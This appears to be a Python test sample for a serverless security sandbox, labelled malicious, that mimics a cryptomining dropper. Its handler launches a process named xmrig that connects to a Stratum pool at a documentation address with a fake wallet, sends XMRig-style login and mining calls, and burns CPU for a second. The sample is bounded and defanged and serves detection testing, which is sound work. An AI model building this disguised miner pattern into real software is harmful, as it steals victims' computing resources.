"""MALICIOUS example (threat catalogue §1e technique 32): cryptomining over Stratum.

The handler starts a miner process, the way droppers start XMRig, with a pool URL and wallet on
its command line (`-o stratum+tcp://203.0.113.50:3333 -u <wallet> --donate-level 1 -a rx/0`).
The "miner" is a few lines of Python: it connects to the pool (203.0.113.50 is a documentation
address that fnwarden's sandbox makes local to its own network namespace), sends XMRig's
JSON-RPC `login` and the Stratum `mining.subscribe` / `mining.authorize` calls with an XMRig
agent string, reads the reply and "hashes" for one second. Everything is bounded by timeouts.
"""
import json
import subprocess
import sys

POOL = "stratum+tcp://203.0.113.50:3333"
WALLET = "48fnwardenExampleWalletNotARealAddress" + "0" * 56  # Monero-address-shaped, fake

MINER = r'''
import hashlib, json, socket, sys, time
args = sys.argv[1:]
url = args[args.index("-o") + 1]
user = args[args.index("-u") + 1]
host, port = url.split("://", 1)[1].rsplit(":", 1)
agent = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0"
out = {"pool": url}
try:
    s = socket.create_connection((host, int(port)), timeout=3)
    s.settimeout(2)
    calls = [
        {"id": 1, "jsonrpc": "2.0", "method": "login",
         "params": {"login": user, "pass": "x", "agent": agent, "algo": ["rx/0"]}},
        {"id": 2, "method": "mining.subscribe", "params": [agent]},
        {"id": 3, "method": "mining.authorize", "params": [user, "x"]},
    ]
    s.sendall("".join(json.dumps(c) + "\n" for c in calls).encode())
    out["sent"] = [c["method"] for c in calls]
    try:
        out["reply"] = s.recv(4096).decode("utf-8", "replace")[:200]
    except socket.timeout:
        out["reply"] = None
    s.close()
except OSError as exc:
    out["error"] = repr(exc)
# "Mine" for a second: what a miner does with the CPU it stole.
h, n, end = b"", 0, time.monotonic() + 1
while time.monotonic() < end:
    h = hashlib.sha256(h + b"nonce").digest()
    n += 1
out["hashes"] = n
print(json.dumps(out))
'''


def handler(event, context):
    argv = ["xmrig", "-c", MINER, "-o", POOL, "-u", WALLET, "-p", "x", "--donate-level", "1", "-a", "rx/0"]
    try:
        done = subprocess.run(argv, executable=sys.executable, capture_output=True, timeout=8)
    except Exception as exc:
        return {"miner": repr(exc)}
    try:
        return {"miner": json.loads(done.stdout.decode().strip().splitlines()[-1]), "exit": done.returncode}
    except (ValueError, IndexError):
        return {"miner_stdout": done.stdout.decode("utf-8", "replace")[-300:],
                "miner_stderr": done.stderr.decode("utf-8", "replace")[-300:], "exit": done.returncode}
